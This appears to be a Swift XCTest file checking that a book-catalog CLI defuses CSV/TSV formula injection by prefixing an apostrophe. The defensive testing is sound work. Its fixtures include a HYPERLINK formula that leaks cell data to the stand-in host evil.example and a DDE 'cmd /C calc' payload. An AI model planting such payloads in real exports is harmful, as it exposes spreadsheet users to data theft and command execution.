import XCTest

/// A field a spreadsheet would run as a formula reaches every CSV and TSV writer as text: a `'`
/// before it (OWASP's advice against CSV injection), unless `--raw-cells` asks for the exact text.
final class FormulaCellTests: CommandTestCase {
    private let hyperlink = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")"
    private let command = "+cmd|' /C calc'!A0"

    /// A teacher's hostile suggestion, as the curator lists it in CSV and TSV.
    func testAHostileSuggestionReachesTheCuratorsCSVAndTSVAsText() throws {
        let sent = try bookdir("suggest", "--title", hyperlink, "--author", command, "--category", "YA", "--by", "@SUM(1)")
        XCTAssertEqual(sent.status, 0, sent.stderr)

        let review = try bookdir("review", "list", "--format", "csv")
        let suggestions = try bookdir("suggestions", "--format", "csv")
        let tsv = try bookdir("review", "list", "--format", "tsv")

        XCTAssertEqual(review.status, 0, review.stderr)
        let record = try XCTUnwrap(review.stdout.components(separatedBy: "\r\n").dropFirst().first)
        // id, title, author, category, createdAt, status, bookID, reason, suggestedBy
        XCTAssertTrue(record.contains(",\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"click\"\")\",'+cmd|' /C calc'!A0,YA,"),
                      record)
        XCTAssertTrue(record.hasSuffix(",pending,,,'@SUM(1)"), record)
        XCTAssertEqual(suggestions.stdout.components(separatedBy: "\r\n").dropFirst().first, record)
        let tsvFields = try XCTUnwrap(tsv.stdout.split(separator: "\n").dropFirst().first)
            .split(separator: "\t", omittingEmptySubsequences: false).map(String.init)
        XCTAssertEqual(tsvFields[1], "'" + hyperlink)
        XCTAssertEqual(tsvFields[2], "'" + command)
        XCTAssertEqual(tsvFields[8], "'@SUM(1)")
    }

    /// Every starting character OWASP names, in `list`'s CSV and TSV; `--raw-cells` writes them as
    /// they are; a field with such a character later on is left alone.
    func testEveryFormulaStartIsGuardedInListAndRawCellsKeepsTheExactText() throws {
        let catalog = try runner.write("""
            {"version": 2, "books": [
              {"id": "f", "title": "=1+1", "authors": ["+Plus", "B"], "illustrators": ["@At"], "category": "MG",
               "description": "-minus", "year": 2001},
              {"id": "g", "title": "\\tTabbed", "authors": ["\\rReturn"], "category": "PB", "description": "a=b, +c -d @e"}
            ]}
            """, to: "formulas.json")

        let csv = try bookdir("list", "--format", "csv", catalog: catalog)
        let raw = try bookdir("list", "--format", "csv", "--raw-cells", catalog: catalog)
        let tsv = try bookdir("list", "--format", "tsv", catalog: catalog)
        let rawTSV = try bookdir("list", "--format", "tsv", "--raw-cells", catalog: catalog)

        XCTAssertEqual(csv.status, 0, csv.stderr)
        XCTAssertEqual(csv.stdout, "id,title,author,illustrator,category,year,isbn,description,isbns,grades,languages\r\n"
            + "f,'=1+1,'+Plus and B,'@At,MG,2001,,'-minus,,,\r\n"
            + "g,'\tTabbed,\"'\rReturn\",,PB,,,\"a=b, +c -d @e\",,,\r\n")
        XCTAssertEqual(raw.stdout, "id,title,author,illustrator,category,year,isbn,description,isbns,grades,languages\r\n"
            + "f,=1+1,+Plus and B,@At,MG,2001,,-minus,,,\r\n"
            + "g,\tTabbed,\"\rReturn\",,PB,,,\"a=b, +c -d @e\",,,\r\n")
        XCTAssertEqual(tsv.stdout, """
            id\ttitle\tauthor\tillustrator\tcategory\tyear\tisbn\tdescription\tisbns\tgrades\tlanguages
            f\t'=1+1\t'+Plus and B\t'@At\tMG\t2001\t\t'-minus\t\t\t
            g\t^ITabbed\t^MReturn\t\tPB\t\t\ta=b, +c -d @e\t\t\t

            """)
        XCTAssertEqual(rawTSV.stdout, """
            id\ttitle\tauthor\tillustrator\tcategory\tyear\tisbn\tdescription\tisbns\tgrades\tlanguages
            f\t=1+1\t+Plus and B\t@At\tMG\t2001\t\t-minus\t\t\t
            g\t^ITabbed\t^MReturn\t\tPB\t\t\ta=b, +c -d @e\t\t\t

            """)
    }

    func testSearchGuardsItsCSVToo() throws {
        let catalog = try runner.write("""
            {"version": 2, "books": [{"id": "f", "title": "=Formula Tales", "authors": ["Ann"], "category": "MG", "description": "d"}]}
            """, to: "search.json")

        let guarded = try bookdir("search", "formula", "--format", "csv", catalog: catalog)
        let raw = try bookdir("search", "formula", "--format", "csv", "--raw-cells", catalog: catalog)

        XCTAssertEqual(guarded.stdout, "id,title,author,illustrator,category,year,isbn,description,isbns,grades,languages\r\nf,'=Formula Tales,Ann,,MG,,,d,,,\r\n")
        XCTAssertEqual(raw.stdout, "id,title,author,illustrator,category,year,isbn,description,isbns,grades,languages\r\nf,=Formula Tales,Ann,,MG,,,d,,,\r\n")
    }

    func testAListExportedAsCSVIsGuardedUnlessRawCellsIsGiven() throws {
        let catalog = try runner.write("""
            {"version": 2, "books": [{"id": "f", "title": "@Risky", "authors": ["Ann"], "category": "MG", "description": "=2*3"}]}
            """, to: "export.json")
        XCTAssertEqual(try bookdir("lists", "add", "Class", "f", catalog: catalog).status, 0)

        let guarded = try bookdir("lists", "export", "Class", "--format", "csv", catalog: catalog)
        let raw = try bookdir("lists", "export", "Class", "--format", "csv", "--raw-cells", catalog: catalog)
        let markdown = try bookdir("lists", "export", "Class", "--raw-cells", catalog: catalog)

        XCTAssertEqual(guarded.stdout, "id,title,author,illustrator,category,year,isbn,description,isbns,grades,languages\r\nf,'@Risky,Ann,,MG,,,'=2*3,,,\r\n")
        XCTAssertEqual(raw.stdout, "id,title,author,illustrator,category,year,isbn,description,isbns,grades,languages\r\nf,@Risky,Ann,,MG,,,=2*3,,,\r\n")
        XCTAssertEqual(markdown.status, 2)
        XCTAssertTrue(markdown.stderr.contains("--raw-cells is for --format csv (it was markdown)."), markdown.stderr)
    }

    func testRawCellsWithAFormatWithoutCellsIsAUsageError() throws {
        let table = try bookdir("list", "--raw-cells")
        let json = try bookdir("suggestions", "--json", "--raw-cells")

        XCTAssertEqual(table.status, 2)
        XCTAssertTrue(table.stderr.contains("--raw-cells is for --format csv or --format tsv (it was table)."), table.stderr)
        XCTAssertEqual(json.status, 2)
        XCTAssertTrue(json.stderr.contains("--raw-cells is for --format csv or --format tsv (it was json)."), json.stderr)
    }
}
